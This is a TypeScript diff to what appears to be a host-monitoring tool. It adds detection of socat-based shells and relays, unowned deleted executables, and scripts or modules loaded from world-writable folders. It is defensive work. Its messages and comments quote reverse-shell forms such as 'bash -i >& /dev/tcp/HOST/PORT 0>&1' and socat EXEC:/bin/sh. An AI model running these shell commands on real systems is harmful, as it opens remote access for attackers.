@@ -2,7 +2,7 @@ import type { Knowledge } from "../knowledge/knowledge.js";
 import { processNames } from "./program-names.js";
 import { TRUST_RULES } from "./rules-trust.js";
 import { genuine } from "./trust.js";
-import { readCommandLine, type CommandLine, type InlineCode } from "./command-line.js";
+import { commandLineOf, readCommandLine, scriptOf, type CommandLine, type InlineCode } from "./command-line.js";
 import { ownerText, type ProcessInfo } from "../model/process.js";
 import { isLoopback } from "../model/address.js";
 import type { Hiding } from "../model/hiding.js";
@@ -66,16 +66,6 @@ function leftover(s: Socket): boolean {
 
 const reason = (rule: string, verdict: Reason["verdict"], message: string): Reason => ({ rule, verdict, message });
 
-/** Each process's command line, read once with its program's grammar (the rules run once per process; two of them ask). */
-const commandLines = new WeakMap<ProcessInfo, { knowledge: Knowledge; read: CommandLine | null }>();
-function commandLineOf(p: ProcessInfo, knowledge: Knowledge): CommandLine | null {
-  const had = commandLines.get(p);
-  if (had !== undefined && had.knowledge === knowledge) return had.read;
-  const read = readCommandLine(p.cmdline, p.exe, p.name, knowledge);
-  commandLines.set(p, { knowledge, read });
-  return read;
-}
-
 /** How the code flag was written, in a few words: "-c", "-Ic: -c inside a cluster", "-enc: short for -EncodedCommand". */
 function codeFlag(c: InlineCode, program: string): string {
   switch (c.how) {
@@ -101,8 +91,11 @@ function shellSocketMessage(p: ProcessInfo, cl: CommandLine, knowledge: Knowledg
       const tail = cl.interactive ? "the classic reverse shell is bash -i >& /dev/tcp/HOST/PORT 0>&1" : "that is what a reverse or bind shell looks like";
       return `${who(p)} is ${what}${cl.applet ? ` (busybox ${cl.applet})` : ""} holding a network socket: ${tail}`;
     }
-    case "netcat":
-      return `${who(p)} is a netcat-like tool holding a network socket${cl.exec ? `, set to run ${cl.exec.text} for the other end (${cl.exec.flag})` : ""}: that is what a reverse or bind shell looks like`;
+    case "netcat": {
+      // socat names the program in an address: EXEC:/bin/sh,pty,stderr or SYSTEM:'bash -i'
+      const run = cl.exec ?? socatExec(p.cmdline ?? []);
+      return `${who(p)} is a netcat-like tool holding a network socket${run ? `, set to run ${run.text} for the other end (${run.flag})` : ""}: that is what a reverse or bind shell looks like`;
+    }
     case "server": {
       const run = cl.exec ? readCommandLine([cl.exec.text], null, null, knowledge) : null;
       if (cl.exec === undefined || run?.kind !== "shell") return null;
@@ -119,6 +112,30 @@ function shellSocketMessage(p: ProcessInfo, cl: CommandLine, knowledge: Knowledg
   }
 }
 
+// socat's addresses that connect it to a program or to its own input and output (socat(1) "ADDRESS TYPES"):
+// with one of these it is a shell's pipe (EXEC:/bin/sh) or a netcat (STDIO, -); with two network addresses, a relay.
+const SOCAT_LOCAL = /^(-|stdio|stdin|stdout|stderr|fd|pty|open|file|create|gopen|pipe|named|readline|exec|system|shell)(:|,|$)/i;
+
+/** The program a socat address runs (EXEC:/bin/sh,pty → /bin/sh, flag "EXEC:"), if any. */
+function socatExec(args: readonly string[]): { flag: string; text: string } | null {
+  for (const a of args.slice(1)) {
+    const m = /^(exec|system|shell):([^,]*)/i.exec(a);
+    if (m) return { flag: `${m[1]}:`, text: m[2] as string };
+  }
+  return null;
+}
+
+/** The two addresses of a socat that only relays between network ends (TCP-LISTEN:8080,fork TCP:host:80); else null. */
+function socatRelay(p: ProcessInfo): [string, string] | null {
+  const args = p.cmdline ?? [];
+  const b = (x: string | null | undefined) => (x ? x.slice(x.lastIndexOf("/") + 1) : "");
+  if (b(p.exe) !== "socat" && b(args[0]) !== "socat") return null;
+  // socat [options] ADDRESS ADDRESS: the addresses are the last two arguments
+  const [a, z] = args.slice(-2);
+  if (args.length < 3 || a === undefined || z === undefined || /^-./.test(a) || /^-./.test(z) || SOCAT_LOCAL.test(a) || SOCAT_LOCAL.test(z)) return null;
+  return [a, z];
+}
+
 /** Process-level findings: they go on every socket of the process. */
 export const PROCESS_RULES: readonly Rule[] = [
   {
@@ -126,6 +143,11 @@ export const PROCESS_RULES: readonly Rule[] = [
     check(s) {
       const p = s.process;
       if (!p?.exeDeleted) return null;
+      // An upgrade replaces a packaged file: a deleted file at a path no installed package owns was never one.
+      const unowned = p.provenance?.database === "dpkg" && p.package === null;
+      if (p.exe && SYSTEM_DIRS.test(p.exe) && !WRITABLE_DIRS.test(p.exe) && unowned) {
+        return reason("deleted-exe", "suspicious", `It runs from a deleted file (${p.exe}) that no installed package owns, so no upgrade replaced it: malware often deletes its own program after starting, to leave no trace`);
+      }
       if (p.exe && SYSTEM_DIRS.test(p.exe) && !WRITABLE_DIRS.test(p.exe)) {
         return reason("deleted-exe", "unknown", `Its program file ${p.exe} was replaced or removed after it started: usually a package upgrade (restart ${p.name ?? "it"}), but check if you did not upgrade`);
       }
@@ -134,10 +156,19 @@ export const PROCESS_RULES: readonly Rule[] = [
   },
   {
     id: "writable-dir-exe",
-    check(s) {
-      const exe = s.process?.exe;
-      if (!exe || !WRITABLE_DIRS.test(exe)) return null;
-      return reason("writable-dir-exe", "suspicious", `Its program runs from ${exe.slice(0, exe.lastIndexOf("/") + 1) || exe}, a folder anyone can write to: real services are installed elsewhere, dropped malware lands here`);
+    check(s, ctx) {
+      const p = s.process;
+      const exe = p?.exe;
+      if (p === null || !exe) return null;
+      if (WRITABLE_DIRS.test(exe)) return reason("writable-dir-exe", "suspicious", `Its program runs from ${exe.slice(0, exe.lastIndexOf("/") + 1) || exe}, a folder anyone can write to: real services are installed elsewhere, dropped malware lands here`);
+      // python3 /dev/shm/x.py: the installed interpreter runs a program dropped where anyone can write
+      const script = scriptOf(p, ctx.knowledge);
+      // node -r /dev/shm/x.js app.js, ruby -r/tmp/x.rb: code loaded before the program, from where anyone can write
+      // (a class path is a list: java -cp /opt/app/lib/*:/tmp/x.jar)
+      const module = script?.place === "world-writable" ? undefined : commandLineOf(p, ctx.knowledge)?.modules.flatMap((m) => m.split(":")).find((m) => WRITABLE_DIRS.test(m));
+      if (module !== undefined) return reason("writable-dir-exe", "suspicious", `It loads code from ${module} (${p.name ?? exe} was told to, on its command line), a place anyone can write to: code slipped in beside a program is how droppers hide in ordinary processes`);
+      if (script === null || script.place !== "world-writable") return null;
+      return reason("writable-dir-exe", "suspicious", `Its program is the script ${script.path}, run by ${p.name ?? exe}, from ${script.path.slice(0, script.path.lastIndexOf("/") + 1)}, a folder anyone can write to: real services are installed elsewhere, dropped malware lands here`);
     },
   },
   {
@@ -166,6 +197,8 @@ export const PROCESS_RULES: readonly Rule[] = [
       if (p === null) return null;
       const cl = commandLineOf(p, ctx.knowledge);
       if (cl === null) return null;
+      const relay = cl.kind === "netcat" ? socatRelay(p) : null;
+      if (relay !== null) return reason("relay", "unknown", `${who(p)} relays between ${relay[0]} and ${relay[1]}, a port forward with no program behind it: it carries whatever either end sends, so check who reaches it and where it leads`);
       const message = shellSocketMessage(p, cl, ctx.knowledge);
       return message === null ? null : reason("shell-socket", "suspicious", message);
     },
